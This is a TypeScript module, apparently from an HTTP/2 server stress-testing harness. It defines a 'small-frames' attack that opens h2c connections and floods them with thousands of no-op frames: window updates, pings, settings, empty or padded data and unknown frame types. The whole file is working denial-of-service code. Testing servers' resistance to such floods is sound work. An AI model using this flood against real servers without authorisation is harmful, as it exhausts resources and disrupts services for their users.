// Frames that make work and bring nothing, each kind on connections of its own, sent until the connection is ended.

import { flag, frame, frameType, windowUpdateFrame } from '../support/http2-frames.ts';
import { type Attack, inLoops } from './attack.ts';
import { attackConnection, requestFrame } from './frames.ts';

/** In one write. */
const FRAMES = 4_096;
const WRITES = 64;
const NO_BYTES = Buffer.alloc(0);

/** On stream 1, whose request is open. */
const kinds: readonly Buffer[] = [
  windowUpdateFrame(0, 1),
  windowUpdateFrame(1, 1),
  frame(frameType.priority, 0, 1, Buffer.from([0, 0, 0, 0, 16])),
  frame(frameType.ping, 0, 0, Buffer.alloc(8)),
  frame(frameType.ping, flag.ack, 0, Buffer.alloc(8)),
  frame(frameType.settings, 0, 0, NO_BYTES),
  frame(frameType.settings, flag.ack, 0, NO_BYTES),
  frame(frameType.data, 0, 1, NO_BYTES),
  frame(frameType.data, flag.padded, 1, Buffer.from([0])),
  frame(frameType.data, flag.padded, 1, Buffer.from([16, ...Buffer.alloc(16)])),
  frame(0xee, 0, 1, NO_BYTES),
];

export const smallFrames: Attack = {
  name: 'small-frames',
  does: `floods of ${kinds.length} kinds of frames that bring nothing`,
  async start(target) {
    const host = target.hosts.h2c;
    let begun = 0;
    return inLoops(target, kinds.length, async (stopped) => {
      const many = Buffer.concat(Array(FRAMES).fill(kinds[begun++ % kinds.length]));
      const connection = await attackConnection(target, host);
      await connection.send(requestFrame(1, host, '/', { method: 'POST', flags: flag.endHeaders }));
      for (let i = 0; i < WRITES && !stopped.aborted && !connection.closed; i++) await connection.send(many);
      connection.close();
    });
  },
};
